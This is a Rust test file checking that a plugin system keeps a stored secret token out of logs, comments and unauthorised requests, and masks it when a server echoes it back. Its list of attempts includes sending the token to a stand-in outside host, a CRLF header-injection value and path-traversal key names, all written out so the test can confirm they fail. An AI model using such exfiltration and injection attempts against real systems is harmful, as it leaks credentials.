//! A secret that a plugin wants to carry out: it goes to granted hosts, in a header that the host fills in, and is found nowhere
//! else.

use crate::listener::{Reply, replying, server};
use crate::sending::outward;
use crate::world::{Company, World, until};
use mortise_engine::id::IssueId;
use serde_json::{Value, json};
use zeroize::Zeroizing;

/// The secret's value.
const SECRET: &str = "chaffinch-7f3a";

/// Ways that a plugin could try. `granted` takes what is sent to it, and nobody is behind the other address.
fn tries(granted: &str) -> Value {
    let with = |prefix: &str, secret: &str| json!({ "x-token": { "prefix": prefix, "secret": secret } });
    json!([
        ["secrets"],
        ["settings"],
        ["setting", "token"],
        ["kv-get", "token"],
        ["kv-get", "secret/token"],
        ["kv-get", "../../secret/token"],
        ["kv-scan", ""],
        ["kv-scan", "secret"],
        ["hmac", "token", "x"],
        ["hmac", "signing", "x"],
        ["send", "POST", "https://elsewhere.example.net/", with("", "token"), "x"],
        ["enqueue", "POST", "https://elsewhere.example.net/", with("", "token"), "x"],
        ["enqueue", "POST", "https://localhost.example.net/", with("", "token"), "x"],
        ["send", "POST", granted, with("x\r\nx-other: ", "token"), "x"],
        ["send", "POST", granted, with("", "../token"), "x"],
        ["send", "POST", granted, with("", "token"), "the granted one"],
        ["enqueue", "POST", "http://localhost:9/", with("", "token"), "x"],
        ["log", "error", "$last"],
        ["update", "$issue", [{ "description": "$last" }]],
        ["comment", "$issue", "tried everything: $last"],
    ])
}

/// All that anybody can read of what the plugin did.
async fn readable(world: &World, company: &Company, issue: IssueId) -> String {
    let (us, id) = (&company.us, company.puppet.id);
    let runs = world.runs(company).await;
    let mut text = format!("{runs:?}");
    for run in runs.iter().filter(|run| run.replayable) {
        let input = world.plugins.run_input(us, id, run.id).await.unwrap();
        text += &format!("{input:?}{}", serde_json::to_string(&input).unwrap());
    }
    let reader = world.engine.reader(us).await.unwrap();
    let row = world.issue(company, issue).await;
    text += &format!("{:?}", reader.history(&row, None, 100).await.unwrap());
    text += &format!("{row:?}{:?}", world.comments(company, issue).await);
    text += &format!("{:?}", world.engine.installations(us).await.unwrap());
    text += &format!("{:?}", world.plugins.backlog(us, id).await.unwrap());
    text + &format!("{:?}", world.plugins.dead_letters(us, id, 100, None).await.unwrap())
}

/// Whether a text shows these words, or their bytes as numbers.
fn shows(text: &str, words: &str) -> bool {
    let numbers = |between: &str| words.bytes().map(|b| b.to_string()).collect::<Vec<_>>().join(between);
    text.contains(words) || text.contains(&numbers(", ")) || text.contains(&numbers(","))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn it_leaves_towards_granted_hosts_alone() {
    let world = World::new().await;
    let (granted, received) = server(&[200]).await;
    let settings = json!({ "script": { "on-event": tries(&granted) }, "word": "kept in the open" });
    let company = world.company_with("acme", outward(), settings).await;
    let secret = Zeroizing::new(SECRET.to_owned());
    world.plugins.set_secret(company.cx(), company.puppet.id, "token", secret).await.unwrap();
    let issue = world.create(&company, "Login fails").await;
    until("all was tried", async || !world.bodies(&company, issue).await.is_empty()).await;
    until("nobody has taken the other request", async || {
        let backlog = world.plugins.backlog(&company.us, company.puppet.id).await.unwrap();
        backlog.requests.iter().any(|request| request.attempts > 0)
    })
    .await;

    let received = received.lock().clone();
    assert_eq!(received.len(), 1, "{received:?}");
    assert_eq!(received[0].header("x-token").as_deref(), Some(SECRET));
    assert_eq!((received[0].header("x-other"), received[0].body.as_str()), (None, "the granted one"));

    let text = readable(&world, &company, issue).await;
    assert!(shows(&text, "kept in the open"), "what is no secret is seen by looking like this");
    assert!(!shows(&text, SECRET), "{text}");
    let runs = world.runs(&company).await;
    let run = runs.iter().find(|run| run.issue == Some(issue) && run.staged > 0).unwrap();
    let lines: Vec<_> = run.logs.iter().map(|line| line.message.as_str()).collect();
    let count = |beginning: &str| lines.iter().filter(|line| line.starts_with(beginning)).count();
    assert_eq!((count("hmac: ok"), count("hmac: error")), (1, 1), "{lines:#?}");
    assert_eq!((count("send: ok 200"), count("send: error")), (1, 3), "{lines:#?}");
    assert_eq!((count("enqueue: ok"), count("enqueue: error")), (1, 2), "{lines:#?}");
    assert!(lines.contains(&"secrets: ok [\"token\"]"), "{lines:#?}");
    world.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_host_that_repeats_it_tells_it_to_nobody() {
    let world = World::new().await;
    let echo = Reply(401, format!("x-echo: Bearer {SECRET}\r\n"), format!("bad token {SECRET}!"));
    let (port, received) = replying(vec![echo]).await;
    let header = json!({ "authorization": { "prefix": "Bearer ", "secret": "token" } });
    let steps = json!([
        ["send", "POST", format!("http://localhost:{port}/"), header, "x"],
        ["comment", "$issue", "$last"],
    ]);
    let settings = json!({ "script": { "on-event": steps } });
    let company = world.company_with("acme", outward(), settings).await;
    let secret = Zeroizing::new(SECRET.to_owned());
    world.plugins.set_secret(company.cx(), company.puppet.id, "token", secret).await.unwrap();
    let issue = world.create(&company, "Login fails").await;
    let masked = format!("bad token {}!", "*".repeat(SECRET.len()));
    until("the comment", async || world.bodies(&company, issue).await == [masked.as_str()]).await;
    assert_eq!(received.lock()[0].header("authorization"), Some(format!("Bearer {SECRET}")));
    let text = readable(&world, &company, issue).await;
    assert!(shows(&text, &masked), "the answer is told: {text}");
    assert!(!shows(&text, SECRET), "{text}");
    world.close().await;
}
